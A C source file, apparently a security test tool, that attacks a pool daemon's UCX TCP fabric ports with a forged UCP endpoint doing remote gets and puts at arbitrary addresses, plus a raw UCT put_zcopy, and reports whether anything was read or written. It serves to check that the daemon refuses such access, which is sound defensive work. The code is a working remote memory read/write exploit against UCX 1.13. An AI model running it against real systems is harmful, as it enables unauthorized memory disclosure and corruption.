/*
 * tests/tools/pool-ucx-attack.c - a hostile host or process against a
 * poold's fabric ports, with UCX's own code on the wire (UCX 1.13, TCP):
 *
 *	pool-ucx-attack [-n] IP PORT [ADDR...]
 *
 * Two attacks on IP:PORT, each on every ADDR (hex; default 0x1000, where a
 * write kills the process it lands in):
 *
 *  1. a forged UCP endpoint: this process's own worker address with its IP
 *     and port replaced by IP and PORT (what a worker address of the target
 *     would say), then one-sided gets of 64 bytes and puts of 16 bytes with
 *     a key of its own (UCX's software RMA does not bound the address by
 *     the key), each flushed;
 *  2. a raw UCT TCP endpoint to IP:PORT and one put_zcopy of 16 bytes.
 *
 * Each attack runs in a child of its own: UCX may abort on what a port that
 * is not UCX's answers (an assertion of its own, in the attacker), which
 * counts as nothing read or written. It prints what it saw, "read N bytes,
 * wrote M bytes", and exits with 1 if anything was read or written, 0 if
 * not (every attack refused). -n only connects and reads what the port
 * says first: "said N bytes".
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <ucp/api/ucp.h>
#include <uct/api/uct.h>

#define WAIT_MS 3000

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

/* The address and interface this host reaches ip from. */
static int route_to(const char *ip, struct in_addr *ret_src, char *ifname, size_t len)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(9)};
	struct sockaddr_in me;
	socklen_t sl = sizeof(me);
	struct ifaddrs *ifs, *i;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0 || inet_pton(AF_INET, ip, &sa.sin_addr) != 1 ||
	    connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    getsockname(fd, (struct sockaddr *)&me, &sl) < 0) {
		if (fd >= 0)
			close(fd);
		return -1;
	}
	close(fd);
	*ret_src = me.sin_addr;
	if (getifaddrs(&ifs) < 0)
		return -1;
	for (i = ifs; i != NULL; i = i->ifa_next)
		if (i->ifa_addr != NULL && i->ifa_addr->sa_family == AF_INET &&
		    ((struct sockaddr_in *)i->ifa_addr)->sin_addr.s_addr == me.sin_addr.s_addr) {
			snprintf(ifname, len, "%s", i->ifa_name);
			break;
		}
	freeifaddrs(ifs);
	return i != NULL || ntohl(me.sin_addr.s_addr) >> 24 == 127 ? 0 : -1;
}

/* Replace every n-byte occurrence of from by to in buf. */
static unsigned patch(uint8_t *buf, size_t len, const void *from, const void *to, size_t n)
{
	unsigned hits = 0;

	for (size_t i = 0; i + n <= len; i++)
		if (memcmp(buf + i, from, n) == 0) {
			memcpy(buf + i, to, n);
			hits++;
			i += n - 1;
		}
	return hits;
}

struct done {
	int finished;
	ucs_status_t status;
};

static void ucp_done(void *req, ucs_status_t status, void *arg)
{
	struct done *d = arg;

	(void)req;
	d->finished = 1;
	d->status = status;
}

/* Wait for a request's completion; the status, or UCS_ERR_TIMED_OUT. */
static ucs_status_t ucp_wait(ucp_worker_h w, ucs_status_ptr_t req, struct done *d)
{
	uint64_t until = now_ms() + WAIT_MS;

	if (req == NULL)
		return UCS_OK;
	if (UCS_PTR_IS_ERR(req))
		return UCS_PTR_STATUS(req);
	while (!d->finished && now_ms() < until) {
		ucp_worker_progress(w);
		usleep(100);
	}
	if (!d->finished) {
		ucp_request_cancel(w, req);
		for (int i = 0; i < 1000 && !d->finished; i++)
			ucp_worker_progress(w);
		ucp_request_free(req);
		return UCS_ERR_TIMED_OUT;
	}
	ucp_request_free(req);
	return d->status;
}

static void ep_error(void *arg, ucp_ep_h ep, ucs_status_t status)
{
	(void)ep;
	*(ucs_status_t *)arg = status;
}

/* Attack 1: a forged UCP endpoint. Adds what it read and wrote. */
static void attack_ucp(const char *ip, unsigned port, const uint64_t *addrs, size_t n, size_t *read,
		       size_t *wrote)
{
	ucp_params_t params = {.field_mask = UCP_PARAM_FIELD_FEATURES,
			       .features = UCP_FEATURE_RMA | UCP_FEATURE_AM};
	ucp_worker_params_t wp = {.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE,
				  .thread_mode = UCS_THREAD_MODE_SINGLE};
	struct in_addr src, dst;
	char ifname[IF_NAMESIZE] = "lo", ports[32];
	unsigned own_port = 20000 + (unsigned)getpid() % 20000;
	uint16_t own_be = htons((uint16_t)own_port), dst_be = htons((uint16_t)port);
	ucs_status_t ep_status = UCS_OK, st;
	ucp_config_t *cfg;
	ucp_context_h ctx;
	ucp_worker_h w;
	ucp_address_t *addr;
	size_t alen;
	uint8_t *forged;
	ucp_ep_h ep;
	ucp_mem_h memh;
	void *packed;
	size_t plen;
	ucp_rkey_h rkey;
	static uint8_t local[4096];
	ucp_mem_map_params_t mp = {.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS |
						 UCP_MEM_MAP_PARAM_FIELD_LENGTH,
				   .address = local,
				   .length = sizeof(local)};

	if (route_to(ip, &src, ifname, sizeof(ifname)) < 0 || inet_pton(AF_INET, ip, &dst) != 1) {
		printf("ucp: no route to %s\n", ip);
		return;
	}
	snprintf(ports, sizeof(ports), "%u-%u", own_port, own_port);
	if (ucp_config_read(NULL, NULL, &cfg) != UCS_OK)
		return;
	ucp_config_modify(cfg, "TLS", "tcp");
	ucp_config_modify(cfg, "NET_DEVICES", ifname);
	ucp_config_modify(cfg, "PORT_RANGE", ports);
	st = ucp_init(&params, cfg, &ctx);
	ucp_config_release(cfg);
	if (st != UCS_OK || ucp_worker_create(ctx, &wp, &w) != UCS_OK) {
		printf("ucp: cannot start UCX: %s\n", ucs_status_string(st));
		return;
	}
	ucp_worker_get_address(w, &addr, &alen);
	forged = malloc(alen);
	memcpy(forged, addr, alen);
	printf("ucp: forged worker address: %u port and %u address bytes patched (%s from %s)\n",
	       patch(forged, alen, &own_be, &dst_be, 2),
	       ntohl(src.s_addr) >> 24 == 127 ? 0 : patch(forged, alen, &src, &dst, 4), ip, ifname);
	{
		ucp_ep_params_t ep_params = {
		    .field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS |
				  UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
				  UCP_EP_PARAM_FIELD_ERR_HANDLER,
		    .address = (ucp_address_t *)forged,
		    .err_mode = UCP_ERR_HANDLING_MODE_PEER,
		    .err_handler = {ep_error, &ep_status},
		};

		st = ucp_ep_create(w, &ep_params, &ep);
	}
	if (st != UCS_OK) {
		printf("ucp: no endpoint: %s\n", ucs_status_string(st));
		goto out;
	}
	ucp_mem_map(ctx, &mp, &memh);
	ucp_rkey_pack(ctx, memh, &packed, &plen);
	if (ucp_ep_rkey_unpack(ep, packed, &rkey) != UCS_OK) {
		printf("ucp: cannot unpack a key\n");
		goto out;
	}
	for (size_t i = 0; i < n; i++) {
		struct done d = {0};
		ucp_request_param_t rp = {.op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK |
							  UCP_OP_ATTR_FIELD_USER_DATA,
					  .cb.send = ucp_done,
					  .user_data = &d};
		uint8_t buf[64];

		memset(buf, 0, sizeof(buf));
		st = ucp_wait(w, ucp_get_nbx(ep, buf, sizeof(buf), addrs[i], rkey, &rp), &d);
		printf("ucp: get 64 bytes at %#llx: %s\n", (unsigned long long)addrs[i],
		       ucs_status_string(st));
		if (st == UCS_OK)
			*read += sizeof(buf);
		memset(&d, 0, sizeof(d));
		memset(buf, 0x41, 16);
		st = ucp_wait(w, ucp_put_nbx(ep, buf, 16, addrs[i], rkey, &rp), &d);
		if (st == UCS_OK) {
			memset(&d, 0, sizeof(d));
			st = ucp_wait(w, ucp_ep_flush_nbx(ep, &rp), &d);
		}
		printf("ucp: put 16 bytes at %#llx: %s\n", (unsigned long long)addrs[i],
		       ucs_status_string(st));
		if (st == UCS_OK)
			*wrote += 16;
	}
	printf("ucp: endpoint %s\n",
	       ep_status == UCS_OK ? "still open" : ucs_status_string(ep_status));
out:
	free(forged);
	ucp_worker_release_address(w, addr);
	/* (left to exit: closing a half-made endpoint can block UCX 1.13) */
}

static int uct_completed;
static ucs_status_t uct_status;

static void uct_done(uct_completion_t *c)
{
	uct_completed = 1;
	uct_status = c->status;
}

/* Attack 2: a raw UCT endpoint and a put_zcopy. Adds what it wrote. */
static void attack_uct(const char *ip, unsigned port, const uint64_t *addrs, size_t n,
		       size_t *wrote)
{
	struct in_addr src, dst;
	char ifname[IF_NAMESIZE] = "lo";
	uct_component_h *comps;
	unsigned ncomps, c, r, nres;

	if (route_to(ip, &src, ifname, sizeof(ifname)) < 0 || inet_pton(AF_INET, ip, &dst) != 1)
		return;
	if (uct_query_components(&comps, &ncomps) != UCS_OK)
		return;
	for (c = 0; c < ncomps; c++) {
		uct_component_attr_t ca = {.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME};
		uct_tl_resource_desc_t *res;
		uct_md_config_t *mdc;
		uct_md_h md;

		uct_component_query(comps[c], &ca);
		if (strcmp(ca.name, "tcp") != 0 ||
		    uct_md_config_read(comps[c], NULL, NULL, &mdc) != UCS_OK ||
		    uct_md_open(comps[c], "tcp", mdc, &md) != UCS_OK ||
		    uct_md_query_tl_resources(md, &res, &nres) != UCS_OK)
			continue;
		for (r = 0; r < nres; r++) {
			ucs_async_context_t *async;
			uct_worker_h wk;
			uct_iface_config_t *ic;
			uct_iface_params_t ip_params = {.field_mask =
							    UCT_IFACE_PARAM_FIELD_OPEN_MODE |
							    UCT_IFACE_PARAM_FIELD_DEVICE,
							.open_mode = UCT_IFACE_OPEN_MODE_DEVICE};
			uct_iface_h iface;
			uct_iface_attr_t ia;
			uint8_t dev[64] = {0}, ifa[16] = {0};
			uint16_t be = htons((uint16_t)port);
			uct_ep_params_t epp;
			uct_ep_h ep;
			static char data[16] = "UCT-PUT-ATTACK!";
			uct_iov_t iov = {.buffer = data,
					 .length = 16,
					 .memh = UCT_MEM_HANDLE_NULL,
					 .stride = 0,
					 .count = 1};
			uct_completion_t comp = {.func = uct_done, .count = 1, .status = UCS_OK};
			ucs_status_t st = UCS_ERR_NO_RESOURCE;
			uint64_t until;

			if (strcmp(res[r].dev_name, ifname) != 0)
				continue;
			ip_params.mode.device.tl_name = "tcp";
			ip_params.mode.device.dev_name = ifname;
			if (ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async) !=
				UCS_OK ||
			    uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &wk) != UCS_OK ||
			    uct_md_iface_config_read(md, "tcp", NULL, NULL, &ic) != UCS_OK ||
			    uct_iface_open(md, wk, &ip_params, ic, &iface) != UCS_OK)
				return;
			uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
			uct_iface_query(iface, &ia);
			uct_iface_get_device_address(iface, (uct_device_addr_t *)dev);
			if (ntohl(src.s_addr) >> 24 !=
			    127) /* flags 0, AF_INET, the target's address */
				memcpy(dev + 2, &dst, 4);
			memcpy(ifa, &be, 2);
			epp = (uct_ep_params_t){.field_mask = UCT_EP_PARAM_FIELD_IFACE |
							      UCT_EP_PARAM_FIELD_DEV_ADDR |
							      UCT_EP_PARAM_FIELD_IFACE_ADDR,
						.iface = iface,
						.dev_addr = (uct_device_addr_t *)dev,
						.iface_addr = (uct_iface_addr_t *)ifa};
			if (uct_ep_create(&epp, &ep) != UCS_OK) {
				printf("uct: no endpoint\n");
				return;
			}
			for (size_t i = 0; i < n; i++) {
				uct_completed = 0;
				comp.count = 1;
				until = now_ms() + WAIT_MS;
				do {
					st = uct_ep_put_zcopy(ep, &iov, 1, addrs[i], 0, &comp);
					uct_worker_progress(wk);
					usleep(1000);
				} while (st == UCS_ERR_NO_RESOURCE && now_ms() < until);
				while (st == UCS_INPROGRESS && !uct_completed && now_ms() < until) {
					uct_worker_progress(wk);
					usleep(1000);
				}
				if (st == UCS_INPROGRESS)
					st = uct_completed ? uct_status : UCS_ERR_TIMED_OUT;
				printf("uct: put_zcopy of 16 bytes at %#llx: %s\n",
				       (unsigned long long)addrs[i], ucs_status_string(st));
				if (st == UCS_OK)
					*wrote += 16;
			}
			return;
		}
	}
	printf("uct: no tcp device %s\n", ifname);
}

/* Read len bytes, or fewer at the end of the stream: 0, or -1. */
static int read_all(int fd, void *buf, size_t len)
{
	size_t got = 0;
	ssize_t n;

	while (got < len && (n = read(fd, (char *)buf + got, len - got)) != 0) {
		if (n < 0 && errno != EINTR)
			return -1;
		got += n > 0 ? (size_t)n : 0;
	}
	return got == len ? 0 : -1;
}

/* What the port says first to whoever connects. */
static int first_words(const char *ip, unsigned port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	struct timeval tv = {1, 0};
	uint8_t buf[4096];
	ssize_t n, total = 0;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || inet_pton(AF_INET, ip, &sa.sin_addr) != 1 ||
	    connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		printf("cannot connect: %s\n", strerror(errno));
		return 1;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	while ((n = recv(fd, buf, sizeof(buf), 0)) > 0)
		total += n;
	printf("said %zd bytes\n", total);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	uint64_t addrs[16] = {0x1000};
	size_t n = 1, read = 0, wrote = 0;
	int a = 1;
	unsigned port;

	if (argc > 1 && strcmp(argv[1], "-n") == 0) {
		if (argc != 4)
			return 2;
		return first_words(argv[2], (unsigned)atoi(argv[3]));
	}
	if (argc < 3) {
		fprintf(stderr, "usage: pool-ucx-attack [-n] IP PORT [ADDR...]\n");
		return 2;
	}
	port = (unsigned)atoi(argv[2]);
	for (a = 3; a < argc && a - 3 < 16; a++)
		addrs[a - 3] = strtoull(argv[a], NULL, 16);
	if (argc > 3)
		n = (size_t)(argc - 3);
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (int k = 0; k < 2; k++) {
		int fds[2], status;
		size_t got[2] = {0, 0};
		pid_t pid;

		if (pipe(fds) < 0 || (pid = fork()) < 0)
			return 2;
		if (pid == 0) {
			close(fds[0]);
			if (k == 0)
				attack_ucp(argv[1], port, addrs, n, &got[0], &got[1]);
			else
				attack_uct(argv[1], port, addrs, n, &got[1]);
			fflush(stdout);
			if (write(fds[1], got, sizeof(got)) != (ssize_t)sizeof(got))
				_exit(3);
			_exit(0);
		}
		close(fds[1]);
		if (read_all(fds[0], got, sizeof(got)) < 0)
			got[0] = got[1] = 0;
		close(fds[0]);
		waitpid(pid, &status, 0);
		if (WIFSIGNALED(status))
			printf("%s: the attacker's UCX gave up (signal %d)\n",
			       k == 0 ? "ucp" : "uct", WTERMSIG(status));
		read += got[0];
		wrote += got[1];
	}
	printf("read %zu bytes, wrote %zu bytes\n", read, wrote);
	return read + wrote > 0;
}
